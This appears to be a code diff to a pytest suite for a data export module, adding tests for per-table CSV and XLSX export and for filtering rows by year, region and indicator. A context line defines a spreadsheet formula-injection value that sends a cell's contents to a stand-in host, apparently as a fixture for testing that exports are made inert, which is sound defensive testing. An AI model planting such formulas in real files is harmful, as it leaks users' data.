@@ -8,7 +8,7 @@ import polars as pl
 import pytest
 
 from load.errors import ExportFailed
-from load.export import COLUMNS, export, export_rows, inert
+from load.export import COLUMNS, TABLES, Choice, export, export_columns, export_rows, inert
 from tests.load.factory import report_id, tables, together
 
 LIVE = '=HYPERLINK("http://evil.test/"&A1,"点")'
@@ -94,6 +94,31 @@ def test_a_text_longer_than_a_cell_is_cut_and_not_lost(data, put, tmp_path):
 
 
 @pytest.mark.parametrize("format", ["csv", "xlsx"])
+@pytest.mark.parametrize("table", TABLES)
+def test_every_table_is_exported_and_read_back(filled, tmp_path, table, format):
+    out = tmp_path / f"x.{format}"
+    count = export(filled, format, out, choice=Choice(table))
+    names = [column.name for column in export_columns(table)]
+    if format == "csv":
+        rows = pl.read_csv(out, infer_schema_length=0)
+        assert (rows.columns, rows.height) == (names, count)
+    else:
+        sheet = openpyxl.load_workbook(out)[table]
+        assert [cell.value for cell in sheet[1]] == names
+        assert sheet.max_row == count + 1
+    assert count == {"reports": 3, "observations": 9, "indicators": 6}.get(table, 0)
+
+
+def test_a_choice_narrows_the_rows(filled):
+    assert export_rows(filled, choice=Choice(first=2024)).height == 4
+    assert export_rows(filled, choice=Choice(first=2020, last=2023)).height == 2
+    assert export_rows(filled, choice=Choice(region="120103")).height == 2
+    assert export_rows(filled, choice=Choice(indicators=("fines",))).height == 3
+    assert export_rows(filled, choice=Choice("observations", indicators=("fines",))).height == 3
+    assert export_rows(filled, choice=Choice("reports", region="13")).height == 0
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
 def test_the_same_state_gives_the_same_file(filled, tmp_path, format):
     for name in ("one", "two"):
         export(filled, format, tmp_path / name)
@@ -123,7 +148,9 @@ def test_an_older_file_stands_until_the_new_one_is_whole(filled, tmp_path):
     assert list(tmp_path.glob(".*.tmp")) == []
 
 
-@pytest.mark.parametrize(("format", "message"), [("ods", "expected one of csv, xlsx"), ("csv", "nothing is published")])
+@pytest.mark.parametrize(
+    ("format", "message"), [("ods", "no 'ods'; expected one of csv, xlsx"), ("csv", "nothing is published")]
+)
 def test_what_cannot_be_exported_is_told(data, format, message):
     with pytest.raises(ExportFailed, match=message):
         export(data, format, Path("x"))
